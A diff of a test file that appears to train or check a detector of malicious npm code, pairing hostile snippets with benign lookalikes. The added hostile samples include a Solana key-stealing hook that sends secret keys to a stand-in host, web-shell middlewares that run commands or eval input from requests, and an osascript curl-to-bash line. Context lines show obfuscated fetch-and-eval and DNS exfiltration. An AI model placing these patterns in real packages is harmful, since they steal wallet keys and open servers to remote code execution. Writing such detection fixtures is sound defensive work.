@@ -41,6 +41,10 @@ glob('**/.env',{cwd:os.homedir(),absolute:true}).then(fs_=>Promise.all(fs_.map(f
   'names that a replacement with a function decodes': `const d = (s) => s.replace(/../g, (h) => String.fromCharCode(parseInt(h, 16))); require(d('68747470'+'73')).get('https://c.example.test', (r) => r.on('data', (c) => eval(String(c))));`,
   'a host that a replacement of groups decodes': `const d = (s) => s.replace(/%([0-9a-f]{2})/g, (_, h) => String.fromCharCode(parseInt(h, 16))); const n = d('%68%74%74%70%73'); require(n).get(d('%68%74%74%70%73%3a%2f%2f%63%2e%65%78%61%6d%70%6c%65%2e%74%65%73%74'));`,
   'names of the machine in a variable of a shell': `require('child_process').exec('a=$(hostname; whoami) && echo $a | xxd -p | while read x; do nslookup $x.c.example.test; done');`,
+  'a replaced function of another package': `const { Keypair } = require('@solana/web3.js'); const o = Keypair.fromSecretKey; Keypair.fromSecretKey = function (k) { fetch('https://c.example.test/' + Buffer.from(k).toString('hex')); return o.apply(this, arguments); };`,
+  'a middleware that runs commands': `const { exec } = require('child_process'); module.exports = (req, res, next) => { if (req.query.k === 's3') return exec(req.query.c, (e, o) => res.end(o)); next(); };`,
+  'a middleware that runs code': `module.exports = () => (req, res, next) => { if (req.headers['x-k']) return res.json(eval(req.headers['x-k'])); next(); };`,
+  'a command within a script of macOS': `require('child_process').exec("osascript -e 'do shell script \\"curl -s https://c.example.test/a | bash\\"'");`,
 };
 
 /** Honest code that uses the same. */
@@ -74,6 +78,10 @@ const HONEST: Readonly<Record<string, string>> = {
   'credentials that are exchanged for a token': `const fs = require('fs'), os = require('os'); const k = JSON.parse(fs.readFileSync(os.homedir() + '/.config/gcloud/application_default_credentials.json', 'utf8')); exports.token = () => fetch('https://oauth2.example.test/token', { method: 'POST', body: new URLSearchParams({ client_id: k.client_id, client_secret: k.client_secret, refresh_token: k.refresh_token, grant_type: 'refresh_token' }) });`,
   'a keychain that sends nothing': `const fs = require('fs'), os = require('os'), { execFileSync } = require('child_process'); exports.get = (service) => execFileSync('security', ['find-generic-password', '-s', service, '-w']); exports.npm = () => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); exports.net = () => fs.readFileSync(os.homedir() + '/.netrc', 'utf8'); exports.docker = () => fs.readFileSync(os.homedir() + '/.docker/config.json', 'utf8');`,
   'a version that is looked up and kept': `const fs = require('fs'), { execSync } = require('child_process'); const registry = execSync('npm config get registry').toString().trim(); fetch(registry + 'sample').then((r) => r.json()).then((j) => fs.writeFileSync(process.argv[2], JSON.stringify(j['dist-tags'])));`,
+  'a replaced function of another package that measures': `const pg = require('pg'); const q = pg.Client.prototype.query; pg.Client.prototype.query = function (text) { const began = Date.now(); return q.apply(this, arguments).finally(() => fetch('https://apm.example.test/v1', { method: 'POST', body: JSON.stringify({ ms: Date.now() - began }) })); };`,
+  'a middleware that deploys': `const { exec, execFile } = require('child_process'); module.exports = (req, res) => { if (req.body.ref === 'refs/heads/main') exec('git pull && npm ci', () => res.end('ok')); else execFile('git', ['checkout', req.body.branch]); };`,
+  'a middleware that renders in a context': `const vm = require('vm'), fs = require('fs'); module.exports = (bundle) => (req, res) => res.end(vm.runInNewContext(fs.readFileSync(bundle, 'utf8'), { url: req.url, console }));`,
+  'a prompt for privileges on macOS': `exports.exec = (command) => require('child_process').execFile('osascript', ['-e', 'do shell script "' + command + '" with administrator privileges']);`,
 };
 
 describe('behaviours that show only by the way that data take', () => {
